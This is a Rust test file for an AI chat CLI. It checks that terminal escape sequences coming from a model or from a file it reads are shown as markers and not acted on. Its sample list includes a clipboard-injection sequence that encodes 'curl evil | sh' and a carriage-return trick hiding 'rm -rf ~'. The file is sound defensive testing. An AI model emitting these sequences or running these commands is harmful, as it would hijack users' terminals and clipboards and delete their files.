//! What the CLI prints of what a model (or a file it read) wrote: terminal escape sequences are
//! shown as markers, never obeyed — in `ask` (text, reasoning, tool arguments and output) and
//! in `chats show`; `--raw` prints them as received.

use super::cli::{add_local, newest_chat, run};
use super::cli_approvals::tool_calls;
use parley_tests::*;

/// Sequences a terminal would act on, as a model could send them.
const ATTACKS: &[&str] = &[
    "\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}",
    "\u{1b}]0;owned\u{1b}\\",
    "\u{1b}[2K\u{1b}[1A",
    "\u{1b}[8mhidden",
    "\u{9b}31m",
    "\u{9d}8;;http://x\u{9c}",
    "safe\rrm -rf ~",
];

fn has_control(s: &str) -> bool {
    s.chars()
        .any(|c| matches!(c as u32, 0x1b | 0x07 | 0x0d | 0x80..=0x9f))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn escapes_from_the_model_are_shown_not_obeyed() {
    let server = MockServer::start().await;
    let dir = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("evil.txt"), ATTACKS.join("\n")).unwrap();
    let wsp = ws.path().display().to_string();
    add_local(dir.path(), &server).await;
    let text = ATTACKS.join(" | ");
    let round = || {
        server.push(tool_calls(&[("r", "read_file", r#"{"path":"evil.txt"}"#)]));
        let mut steps = vec![ev_reasoning(&format!("thinking {}", ATTACKS[1]))];
        steps.extend(text_answer(&[&text], 0));
        server.push(Reply::sse(steps));
    };
    round();
    let r = run(
        dir.path(),
        &["ask", "--workspace", &wsp, "--approve", "read-only", "go"],
    )
    .await;
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(!has_control(&r.stdout), "stdout: {:?}", r.stdout);
    assert!(!has_control(&r.stderr), "stderr: {:?}", r.stderr);
    assert!(r.stdout.contains("⟦U+001B⟧]52;c;"), "{:?}", r.stdout);
    assert!(r.stdout.contains("⟦U+009B⟧31m"), "{:?}", r.stdout);
    assert!(r.stdout.contains("safe⟦U+000D⟧rm -rf ~"), "{:?}", r.stdout);

    // The stored chat keeps the bytes; `chats show` shows them as markers.
    let id = newest_chat(dir.path(), None).await.session.id.0;
    let r = run(dir.path(), &["sessions", "show", &id]).await;
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(!has_control(&r.stdout), "{:?}", r.stdout);
    assert!(r.stdout.contains("⟦U+001B⟧]0;owned"), "{:?}", r.stdout);

    // --raw prints them as received.
    let r = run(dir.path(), &["sessions", "show", "--raw", &id]).await;
    assert!(r.stdout.contains("\u{1b}]52;c;"), "{:?}", r.stdout);
    round();
    let r = run(
        dir.path(),
        &[
            "ask",
            "--raw",
            "--workspace",
            &wsp,
            "--approve",
            "read-only",
            "go",
        ],
    )
    .await;
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("\u{1b}[8mhidden"), "{:?}", r.stdout);
}
